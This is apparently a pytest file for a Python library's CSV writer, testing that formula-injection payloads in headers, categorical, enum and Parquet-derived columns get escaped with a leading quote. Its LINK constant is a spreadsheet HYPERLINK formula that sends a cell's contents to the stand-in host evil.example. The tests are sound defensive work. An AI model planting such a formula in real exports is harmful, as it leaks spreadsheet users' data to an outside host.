"""Formula injection in CSV outputs (audit, issue 9): header cells, Categorical/Enum columns and
regex-shaped column names are neutralised like text values."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl

from ringfence.io.write import write_table

LINK = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def _rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_header_cells_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "h.csv"
    write_table(pl.DataFrame({LINK: ["a"], "+phone": ["b"], "plain": ["c"]}), out)
    assert _rows(out)[0] == ["'" + LINK, "'+phone", "plain"]


def test_categorical_and_enum_cells_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    frame = pl.DataFrame(
        {
            "cat": pl.Series([LINK, "ok"], dtype=pl.Categorical),
            "enum": pl.Series([LINK, "ok"], dtype=pl.Enum([LINK, "ok"])),
        }
    )
    write_table(frame, out)
    assert _rows(out)[1] == ["'" + LINK, "'" + LINK]


def test_dictionary_parquet_column_is_neutralised_when_written_to_csv(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    src = tmp_path / "d.parquet"
    pq.write_table(pa.table({"note": pa.array([LINK, "x"]).dictionary_encode()}), src)
    out = tmp_path / "d.csv"
    write_table(pl.read_parquet(src), out)
    assert _rows(out)[1] == ["'" + LINK]


def test_regex_shaped_column_names_select_only_themselves(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    frame = pl.DataFrame({"^a.*$": ["=1+1"], "ab": [5], "a": ["x"]})
    write_table(frame, out)
    assert _rows(out) == [["^a.*$", "ab", "a"], ["'=1+1", "5", "x"]]
